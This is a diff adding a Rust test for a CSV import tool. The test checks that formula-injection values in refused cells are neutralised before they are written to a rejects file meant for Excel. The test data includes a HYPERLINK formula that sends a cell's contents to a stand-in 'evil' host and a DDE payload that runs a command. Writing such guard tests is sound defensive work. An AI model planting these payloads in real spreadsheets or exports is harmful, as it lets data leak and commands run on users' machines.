@@ -121,6 +121,33 @@ fn refused_import_exits_1_shows_at_most_20_and_writes_all_to_the_rejects_file() 
     assert_eq!(list.status.code(), Some(1), "no period exists: {}", stdout(&list));
 }
 
+/// A refused cell is often the very text that must not run when the rejects list is opened in
+/// Excel: every cell of it goes through the formula guard.
+#[test]
+fn formulas_in_refused_cells_do_not_survive_into_the_rejects_file() {
+    let home = Home::new();
+    let hostile = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2"];
+    let mut csv = String::from("学校标识码,学校名称,学生数\n");
+    for (i, cell) in hostile.iter().enumerate() {
+        csv.push_str(&format!("214101020{i},学校{i},\"{}\"\n", cell.replace('"', "\"\"")));
+    }
+    let bad = home.path().join("bad.csv");
+    std::fs::write(&bad, csv).unwrap();
+    let rejects = home.path().join("rejects.csv");
+    let out = home.run(&["import", bad.to_str().unwrap(), "--period", "2026Q3", "--rejects", rejects.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1));
+    let bytes = std::fs::read(&rejects).unwrap();
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let values: Vec<String> = reader.records().map(|r| r.unwrap()[3].to_string()).collect();
+    let expected: Vec<String> = hostile.iter().map(|c| format!("'{c}")).collect();
+    assert_eq!(values, expected);
+    for record in csv::Reader::from_reader(&bytes[3..]).records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '@']) && !cell.starts_with("-1+"), "{cell:?} would run in Excel");
+        }
+    }
+}
+
 #[test]
 fn english_on_request() {
     let home = Home::new();
